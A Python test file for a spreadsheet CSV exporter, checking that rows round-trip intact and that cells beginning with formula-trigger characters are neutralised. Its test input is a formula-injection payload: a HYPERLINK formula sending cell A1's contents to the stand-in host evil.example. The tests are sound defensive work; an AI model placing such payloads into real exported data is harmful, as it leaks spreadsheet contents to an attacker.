"""Tables that spreadsheets open: read back as they were written, and never calculated."""

import csv
import io

import pytest

from chalicelib.domain.spreadsheets import harmless, to_csv


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


def test_it_is_read_back_as_it_was_written() -> None:
    rows = [["a", 'say "hi", you', "two\nlines", "", "žluťoučký 葛飾 🎨"], ["b", "'quoted'", " x ", "1", "2"]]
    text = to_csv(rows)
    assert text.startswith("\ufeffa,")
    assert read(text) == rows
    assert text.count("\r\n") == 2


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\uff1d", " =", "\u00a0@", "\u200b+", "\n-"])
def test_no_cell_is_a_formula(sign: str) -> None:
    hostile = f'{sign}HYPERLINK("https://evil.example?"&A1,"Ada")'
    [[cell, other]] = read(to_csv([[hostile, "x"]]))
    assert (cell, other) == (f"'{hostile}", "x")


@pytest.mark.parametrize("text", ["Ada", "", "3-4", "a=b", "'=1", "…=1"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text
